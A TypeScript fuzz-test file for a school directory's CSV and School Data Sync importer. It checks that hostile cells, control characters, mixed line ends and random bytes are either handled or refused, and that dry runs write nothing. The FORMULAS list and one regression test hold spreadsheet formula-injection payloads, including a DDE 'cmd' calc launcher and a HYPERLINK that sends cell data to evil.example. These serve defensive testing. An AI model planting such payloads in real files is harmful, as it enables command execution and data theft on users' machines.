import fc from 'fast-check';
import type { KyselyPlugin, PluginTransformQueryArgs, PluginTransformResultArgs, QueryResult, RootOperationNode, UnknownRow } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemActor } from '../../src/core/context.js';
import { GatehouseError } from '../../src/core/errors.js';
import { guessMapping, readCsv, readGenericCsv, readSds, type ColumnMapping, type ImportData } from '../../src/directory/import-sources.js';
import { planImport } from '../../src/directory/imports.js';
import { createAccount } from '../../src/identity/service.js';
import { dialects } from '../helpers/databases.js';
import { fuzz, fuzzTimeoutMs } from '../helpers/fuzz.js';
import { setUpSchool, startTestApp, type Session, type TestApp } from '../helpers/runtime.js';

/**
 * Fuzzing the CSV importer's dry run (issue 10, "Done when"): random bytes, and CSV files with
 * hostile cells (formula injection, NUL and other control characters, huge fields, BOMs, quotes,
 * commas and line breaks in cells, CRLF, LF and CR line ends mixed in one file, blank lines). The
 * importer never fails with anything but its own file errors; every row ends up either as a person
 * or as a bad row, at the line where it starts; and a dry run writes nothing, on either database.
 */

/** A file error the importer means to give; anything else fails the property. */
function isFileError(error: unknown): boolean {
  return error instanceof GatehouseError && ['import_file_invalid', 'import_file_too_large'].includes(error.code) && [400, 413].includes(error.status) && error.message.length > 0;
}

function readOrRefuse(text: string, mapping?: ColumnMapping): ImportData | undefined {
  try {
    const table = readCsv('people.csv', text);
    return readGenericCsv(table, { mapping: mapping ?? guessMapping(table.headers), defaultRole: 'pupil' });
  } catch (error) {
    if (isFileError(error)) return undefined;
    throw error;
  }
}

const LINE_BREAK = /\r\n|\r|\n/g;
const breaks = (text: string) => text.match(LINE_BREAK)?.length ?? 0;
/** Lines as people count them in an editor: CRLF, LF and a lone CR each end one. */
const lineCount = (text: string) => breaks(text) + 1;
const CONTROL = /[\u0000-\u0008\u000a-\u001f\u007f]/;

// --- Generators -----------------------------------------------------------------------------------

const FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1', '＝1'];
const AWKWARD = ['', ' ', '"', '""', ',', ';', '\n', '\r\n', '\r', '\u0000', '\u0001', '\u001f', '\u007f', '\ufeff', '\u2028', '\ud800', 'é', '🙂', '\\', "'"];
const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.constantFrom(...FORMULAS, ...AWKWARD),
  fc.string({ unit: fc.constantFrom(...AWKWARD, 'a', 'b', '='), maxLength: 8 }),
);
const username = fc.oneof(fc.constantFrom('a.pupil', 'b.pupil', 'master', 'it.admin', 'scim.user', 'mr.staff', 'x', 'A.Pupil'), fc.stringMatching(/^[a-z][a-z0-9._-]{1,10}$/), hostileText);
const role = fc.oneof(fc.constantFrom('pupil', 'Student', 'staff', 'Teacher', 'administrator', 'admin', 'parent', 'DSL', 'Senior leader', '', 'junk'), hostileText);
const email = fc.oneof(fc.constantFrom('', 'a@school.example', 'not-an-address'), fc.emailAddress(), hostileText);
const huge = fc.constantFrom('x'.repeat(100_000), `=${'A1+'.repeat(30_000)}1`, `${'é'.repeat(50_000)}`);

const HEADER = ['username', 'First name', 'Surname', 'role', 'email', 'form', 'notes'];
const MAPPING: ColumnMapping = { username: 'username', givenName: 'First name', familyName: 'Surname', role: 'role', email: 'email', groups: 'form' };

/** A row of cells: usually as many as the header, sometimes one more or fewer (a column slip). */
const row = (withHuge: boolean) =>
  fc
    .tuple(username, hostileText, hostileText, role, email, fc.oneof(fc.constantFrom('7A', 'Year 7', '7A;7B', ''), hostileText), withHuge ? fc.oneof({ weight: 6, arbitrary: hostileText }, huge) : hostileText, fc.constantFrom(0, 0, 0, 0, 1, -1))
    .map(([u, given, family, r, e, form, notes, slip]) => {
      const cells = [u, given, family, r, e, form, notes];
      return slip === 1 ? [...cells, 'extra'] : slip === -1 ? cells.slice(0, 6) : cells;
    });

/** RFC 4180 quoting where it is needed (and, at random, where it is not). */
const quote = (cell: string, always: boolean) => (always || /[",\r\n]/.test(cell) || cell !== cell.trim() ? `"${cell.replace(/"/g, '""')}"` : cell);

interface Generated {
  text: string;
  /** each data row's cells and the line where it starts */
  rows: Array<{ cells: string[]; line: number }>;
}

const csvFile = (options: { rows: number; huge: boolean }) =>
  fc
    .tuple(
      fc.boolean(),
      fc.constantFrom('\n', '\r\n', '\r'),
      fc.array(fc.tuple(row(options.huge), fc.constantFrom('\n', '\r\n', '\r'), fc.nat(2), fc.boolean()), { maxLength: options.rows }),
    )
    .map(([bom, headerEnd, rows]): Generated => {
      let text = `${bom ? '\ufeff' : ''}${HEADER.join(',')}${headerEnd}`;
      const out: Generated['rows'] = [];
      for (const [cells, end, blanks, quoteAll] of rows) {
        text += end.repeat(blanks);
        const rendered = cells.map((c) => quote(c, quoteAll)).join(',');
        // A row of nothing but empty cells is a blank line: not a row.
        if (cells.every((c) => c.trim() === '')) {
          text += `${rendered}${end}`;
          continue;
        }
        out.push({ cells, line: breaks(text) + 1 });
        text += `${rendered}${end}`;
      }
      return { text, rows: out };
    });

/** Any bytes, read as the command line reads a file (UTF-8), and valid files with bytes changed. */
const anyBytes = fc.oneof(
  fc.uint8Array({ maxLength: 3000 }).map((bytes) => Buffer.from(bytes).toString('utf8')),
  fc.string({ unit: 'binary', maxLength: 2000 }),
  fc.tuple(csvFile({ rows: 8, huge: false }), fc.array(fc.tuple(fc.nat(), fc.constantFrom('"', ',', '\n', '\r', '\u0000', '\ufeff', ''), fc.boolean()), { minLength: 1, maxLength: 8 })).map(([f, edits]) => {
    let text = f.text;
    for (const [at, ch, insert] of edits) {
      const i = at % (text.length + 1);
      text = insert ? `${text.slice(0, i)}${ch}${text.slice(i)}` : `${text.slice(0, i)}${ch}${text.slice(i + 1)}`;
    }
    return text;
  }),
);

/** Invariants that hold for any file: rows are people or bad rows, each at a line of the file. */
function checkAccounting(text: string, data: ImportData): void {
  expect(data.people.length + data.bad.length).toBe(data.rows);
  const lines = lineCount(text);
  for (const item of [...data.people, ...data.bad]) {
    expect(Number.isInteger(item.line) && item.line >= 1 && item.line <= lines, `line ${item.line} of ${lines}`).toBe(true);
  }
  for (let i = 1; i < data.bad.length; i++) expect(data.bad[i - 1]!.line).toBeLessThanOrEqual(data.bad[i]!.line);
  for (const b of data.bad) expect(b.reason.length).toBeGreaterThan(0);
  // What is kept holds no control character (a NUL in particular, which PostgreSQL refuses).
  for (const p of data.people) {
    for (const value of [p.username, p.externalId, p.givenName, p.familyName, p.displayName, p.email, ...(p.groups ?? []).map((g) => g.key)]) {
      if (typeof value === 'string') expect(CONTROL.test(value), JSON.stringify(value)).toBe(false);
    }
  }
  for (const g of data.groups) expect(CONTROL.test(g.name), JSON.stringify(g.name)).toBe(false);
}

describe('fuzz: the CSV importer', () => {
  it(
    'AC-12 random bytes and broken CSV: the importer reads or refuses the file, and every row is a person or a bad row at a line of the file',
    async () => {
      await fuzz('csv-import: random bytes', fc.property(anyBytes, fc.boolean(), (text, guessed) => {
        const data = readOrRefuse(text, guessed ? undefined : MAPPING);
        if (data) checkAccounting(text, data);
      }));
    },
    fuzzTimeoutMs(),
  );

  it(
    'AC-12 CSV with hostile cells and mixed line ends: each row is one person or one bad row, at the line where it starts, and cells are kept as text',
    async () => {
      await fuzz('csv-import: hostile cells', fc.property(csvFile({ rows: 12, huge: true }), (f) => {
        const data = readOrRefuse(f.text, MAPPING);
        expect(data).toBeDefined();
        checkAccounting(f.text, data!);
        // Exactly one outcome per row, at its first line.
        const outcomes = [...data!.people.map((p) => p.line), ...data!.bad.map((b) => b.line)].sort((a, b) => a - b);
        expect(outcomes).toEqual(f.rows.map((r) => r.line));
        const byLine = new Map(f.rows.map((r) => [r.line, r.cells]));
        // Text as a file holds it: UTF-8, where a lone surrogate can only be U+FFFD.
        const asRead = (cell: string) => Buffer.from(cell, 'utf8').toString('utf8').trim();
        for (const p of data!.people) {
          const cells = byLine.get(p.line)!;
          expect(p.username).toBe(asRead(cells[0]!).toLowerCase());
          // A formula is a name like any other: kept as the text it is, never evaluated or altered.
          expect(p.givenName ?? '').toBe(asRead(cells[1]!));
          expect(p.familyName ?? '').toBe(asRead(cells[2]!));
        }
      }));
    },
    fuzzTimeoutMs(),
  );

  it(
    'AC-12 School Data Sync files with hostile cells: read or refused, every bad row named by file and line',
    async () => {
      const sdsRow = fc.tuple(fc.oneof(fc.constantFrom('u1', 'u2', 'u3', 'c1', ''), hostileText), username, hostileText, fc.oneof(fc.constantFrom('student', 'teacher', 'administrator', 'guardian', 'aide'), hostileText));
      await fuzz('csv-import: SDS', fc.property(fc.array(sdsRow, { maxLength: 10 }), fc.array(sdsRow, { maxLength: 10 }), fc.constantFrom('\n', '\r\n', '\r'), fc.boolean(), (users, links, end, withClasses) => {
        const csv = (header: string[], rows: string[][]) => [header.join(','), ...rows.map((r) => r.map((c) => quote(c, false)).join(','))].join(end) + end;
        const files: Record<string, string> = {
          'users.csv': csv(['sourcedId', 'username', 'givenName', 'familyName'], users.map(([id, u, name]) => [id, u, name, name])),
          'roles.csv': csv(['userSourcedId', 'orgSourcedId', 'role'], users.map(([id, , , r]) => [id, 'school', r])),
        };
        if (withClasses) {
          files['classes.csv'] = csv(['sourcedId', 'title'], links.map(([id, , title]) => [id, title]));
          files['enrollments.csv'] = csv(['classSourcedId', 'userSourcedId', 'role'], links.map(([id, u, , r]) => [id, u, r]));
        }
        let data: ImportData;
        try {
          data = readSds(files);
        } catch (error) {
          if (isFileError(error)) return;
          throw error;
        }
        for (const b of data.bad) {
          expect(Object.keys(files)).toContain(b.file);
          expect(b.line >= 1 && b.line <= lineCount(files[b.file]!), `${b.file}:${b.line}`).toBe(true);
        }
        for (const p of data.people) for (const v of [p.username, p.externalId, p.givenName, p.familyName]) if (typeof v === 'string') expect(CONTROL.test(v)).toBe(false);
        for (const g of data.groups) expect(CONTROL.test(g.name) || CONTROL.test(g.externalId ?? '')).toBe(false);
      }));
    },
    fuzzTimeoutMs(),
  );

  it('AC-12 regressions found while fuzzing the importer', () => {
    // Line ends mixed in one file (CRLF, then LF): each row is read, at its own line.
    const mixed = readOrRefuse('username,role\r\na1,pupil\r\na2,pupil\na3,pupil\r\na4,pupil\n')!;
    expect(mixed.people.map((p) => [p.line, p.username])).toEqual([[2, 'a1'], [3, 'a2'], [4, 'a3'], [5, 'a4']]);
    // A classic Mac file (CR only): line numbers are lines, not all 1.
    const mac = readOrRefuse('username,role\ra1,pupil\rbad row\ra3,pupil\r')!;
    expect(mac.people.map((p) => p.line)).toEqual([2, 4]);
    expect(mac.bad.map((b) => b.line)).toEqual([3]);
    // A NUL (a UTF-16 file read as UTF-8, or a binary file) is a bad row, never a stored name.
    const nul = readOrRefuse('username,First name,role\na.pupil,Ja\u0000ne,pupil\nb.pupil,Bob,pupil\n', { username: 'username', givenName: 'First name', role: 'role' })!;
    expect(nul.people.map((p) => p.username)).toEqual(['b.pupil']);
    expect(nul.bad).toEqual([{ file: 'people.csv', line: 2, reason: expect.stringMatching(/NUL/) }]);
    expect(() => readCsv('people.csv', Buffer.from('username,role\na1,pupil\n', 'utf16le').toString('utf8'))).toThrow(/UTF-16|NUL/);
    // Other control characters in a kept column are a bad row naming the column; elsewhere they do not matter.
    const control = readOrRefuse('username,First name,notes,role\na.pupil,Jane\u0001,x,pupil\nb.pupil,"Bob\nSmith",x,pupil\nc.pupil,Cy,"line one\nline\u0001two",pupil\n', { username: 'username', givenName: 'First name', role: 'role' })!;
    expect(control.people.map((p) => p.username)).toEqual(['c.pupil']);
    expect(control.bad.map((b) => [b.line, b.reason])).toEqual([[2, expect.stringContaining('First name')], [3, expect.stringContaining('First name')]]);
  });
});

/** Fails the property on any statement other than a SELECT. */
class WriteSpy implements KyselyPlugin {
  writes: string[] = [];
  transformQuery(args: PluginTransformQueryArgs): RootOperationNode {
    if (args.node.kind !== 'SelectQueryNode') this.writes.push(args.node.kind);
    return args.node;
  }
  async transformResult(args: PluginTransformResultArgs): Promise<QueryResult<UnknownRow>> {
    return args.result;
  }
}

for (const dialect of await dialects()) {
  describe(`fuzz: the import dry run writes nothing (${dialect})`, () => {
    let t: TestApp;
    let admin: Session;

    beforeAll(async () => {
      t = await startTestApp(dialect);
      admin = await setUpSchool(t);
      await t.runtime.trail.transaction(systemActor('test'), async (ctx) => {
        await createAccount(ctx, { username: 'a.pupil', displayName: 'A Pupil', email: null, role: 'pupil', passwordHash: null });
        await createAccount(ctx, { username: 'mr.staff', displayName: 'Mr Staff', email: null, role: 'senior_leader', passwordHash: null });
        await createAccount(ctx, { username: 'scim.user', displayName: 'From SCIM', email: null, role: 'pupil', passwordHash: null, source: 'scim' });
        await createAccount(ctx, { username: 'it.admin', displayName: 'IT', email: null, role: 'administrator', passwordHash: null });
      });
    }, 60_000);
    afterAll(async () => {
      await t?.close();
    });

    const counts = async () => {
      const out: Record<string, number> = {};
      for (const table of ['account', 'directory_group', 'group_member', 'audit_event', 'session'] as const) {
        out[table] = Number((await t.runtime.db.kysely.selectFrom(table).select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n);
      }
      return out;
    };

    it('AC-12 regression (found by this fuzz): a file with a NUL or a control character in a name imports its good rows, on PostgreSQL too, and reports those rows', async () => {
      const file = 'username,First name,Surname,role\r\nnul.one,Ja\u0000ne,Doe,pupil\nctl.two,Bob\u0007,Doe,pupil\rgood.three,"=cmd|\' /C calc\'!A0",Doe,pupil\r\n';
      const response = await t.app.inject({ method: 'POST', url: '/api/imports/commit', headers: admin.headers, payload: { kind: 'csv', files: { 'people.csv': file }, mapping: { username: 'username', givenName: 'First name', familyName: 'Surname', role: 'role' }, defaultRole: 'pupil' } });
      expect(response.statusCode, response.body).toBe(200);
      expect(response.json().plan.counts).toMatchObject({ rows: 3, created: 1, bad: 2 });
      expect(response.json().plan.bad.map((b: { line: number }) => b.line)).toEqual([2, 3]);
      const good = await t.runtime.db.kysely.selectFrom('account').select(['given_name', 'source']).where('username', '=', 'good.three').executeTakeFirstOrThrow();
      expect(good).toEqual({ given_name: "=cmd|' /C calc'!A0", source: 'csv' });
    });

    it(
      'AC-12 a dry run of any file (the planner and the console\'s preview) changes nothing in the database, and every planned row keeps its line',
      async () => {
        const before = await counts();
        await fuzz(
          `csv-import: dry run on ${dialect}`,
          fc.asyncProperty(fc.oneof({ weight: 3, arbitrary: csvFile({ rows: 10, huge: false }) }, anyBytes.map((text) => ({ text, rows: [] }) as Generated)), fc.boolean(), async (f, disableMissing) => {
            const data = readOrRefuse(f.text, MAPPING);
            if (data) {
              const spy = new WriteSpy();
              let plan;
              try {
                plan = await planImport({ db: { kysely: t.runtime.db.kysely.withPlugin(spy) } } as never, 'csv', data, { disableMissing });
              } catch (error) {
                // Nobody readable and --disable-missing: refused, with the reason.
                if (!(error instanceof GatehouseError && error.code === 'import_empty')) throw error;
              }
              expect(spy.writes).toEqual([]);
              if (plan) {
                const lines = new Set([...data.people.map((p) => p.line)]);
                for (const c of [...plan.created, ...plan.updated]) expect(lines.has(c.line)).toBe(true);
                expect(plan.bad.length).toBeGreaterThanOrEqual(data.bad.length);
                // The administrator account is never planned for change.
                expect([...plan.updated.map((u) => u.username), ...plan.created.map((c) => c.username)]).not.toContain('it.admin');
              }
            }
            const preview = await t.app.inject({ method: 'POST', url: '/api/imports/preview', headers: admin.headers, payload: { kind: 'csv', files: { 'people.csv': f.text }, mapping: MAPPING, defaultRole: 'pupil', disableMissing } });
            expect([200, 400, 413], preview.body).toContain(preview.statusCode);
            if (preview.statusCode !== 200) expect(preview.json().error.code).toMatch(/^(import_|validation_failed)/);
          }),
        );
        expect(await counts()).toEqual(before);
      },
      fuzzTimeoutMs() + 60_000,
    );
  });
}
